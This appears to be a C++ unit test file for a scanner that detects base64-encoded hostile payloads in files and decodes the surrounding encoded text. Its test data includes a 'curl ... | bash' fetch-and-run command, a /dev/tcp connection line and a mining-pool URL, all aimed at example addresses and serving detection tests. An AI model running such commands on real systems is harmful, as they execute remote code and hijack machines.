#include "audit/encoded_text.h"

#include <gtest/gtest.h>

#include <set>

namespace lazaret::audit {
namespace {

std::string base64(std::string_view plain) {
  constexpr std::string_view letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string text;
  for (std::size_t i = 0; i < plain.size(); i += 3) {
    std::uint32_t group = 0;
    const std::size_t size = std::min<std::size_t>(3, plain.size() - i);
    for (std::size_t j = 0; j < 3; ++j) group = group << 8 | (j < size ? static_cast<std::uint8_t>(plain[i + j]) : 0u);
    for (std::size_t j = 0; j < 4; ++j) text.push_back(j <= size ? letters[group >> (18 - 6 * j) & 63] : '=');
  }
  return text;
}

bool has_mark(const std::string& text) {
  for (const std::string& mark : encoded_marks()) {
    if (text.find(mark) != std::string::npos) return true;
  }
  return false;
}

TEST(EncodedMarks, StandInTheTextWhereverThePayloadBegins) {
  for (const std::string_view payload : {"#!/bin/sh\nid\n", "cat /dev/tcp/203.0.113.7/1", "stratum+tcp://pool.example:3333", "curl http://203.0.113.9/x | bash"}) {
    for (std::size_t lead = 0; lead < 6; ++lead) EXPECT_TRUE(has_mark(base64(std::string(lead, 'x') + std::string(payload)))) << payload << " at " << lead;
  }
}

TEST(EncodedMarks, AreLongEnoughToBeRare) {
  const auto marks = encoded_marks();
  EXPECT_EQ(std::set<std::string>(marks.begin(), marks.end()).size(), marks.size());
  for (const std::string& mark : marks) EXPECT_GE(mark.size(), 7u);
}

TEST(DecodeAround, TheWholeRunIsDecodedWhereverTheMarkStands) {
  const std::string payload = "#!/bin/sh\ncurl http://203.0.113.9/x | bash\n";
  const std::string content = std::string("\0\1\2", 3) + base64(payload) + std::string("\0", 1);
  for (std::uint64_t end = 3; content[end] != '='; ++end) {
    std::uint64_t offset = 0, run_end = 0;
    const auto decoded = decode_around(as_bytes(content), end, &offset, &run_end);
    ASSERT_TRUE(decoded) << end;
    EXPECT_EQ(decoded->substr(0, payload.size()), payload);
    EXPECT_EQ(offset, 3u);
  }
}

TEST(DecodeAround, LettersThatStandInFrontByChanceDoNotHideIt) {
  const std::string payload = "#!/bin/sh\ncurl http://203.0.113.9/x | bash\n";
  for (std::size_t junk = 0; junk < 4; ++junk) {
    const std::string content = std::string("\0", 1) + std::string(junk, 'A') + base64(payload);
    std::uint64_t offset = 0, run_end = 0;
    const auto decoded = decode_around(as_bytes(content), 20, &offset, &run_end);
    ASSERT_TRUE(decoded) << junk;
    EXPECT_NE(decoded->find("curl http"), std::string::npos) << junk;
  }
}

TEST(DecodeAround, AnyPlaceOfAnyContentIsHarmless) {
  std::string content;
  for (int i = 0; i < 300; ++i) content.push_back(static_cast<char>(i * 37));
  for (std::uint64_t end = 0; end <= content.size() + 5; ++end) {
    std::uint64_t offset = 0, run_end = 0;
    (void)decode_around(as_bytes(content), end, &offset, &run_end);
    EXPECT_LE(offset, content.size());
    EXPECT_LE(run_end, content.size());
  }
  std::uint64_t offset = 0, run_end = 0;
  EXPECT_FALSE(decode_around({}, 0, &offset, &run_end));
}

TEST(WorthAuditing, IsTextAndKnownFilesButNotNoise) {
  EXPECT_TRUE(is_worth_auditing("#!/bin/sh\nid\n"));
  EXPECT_TRUE(is_worth_auditing(std::string("\x7f" "ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x3e\0", 20)));
  EXPECT_FALSE(is_worth_auditing("short"));
  EXPECT_FALSE(is_worth_auditing(std::string("\x83\x9a\x00\x01\xfe\x17\xc0\xd1\x88\x02\x9f\xe3", 12)));
}

}  // namespace
}  // namespace lazaret::audit
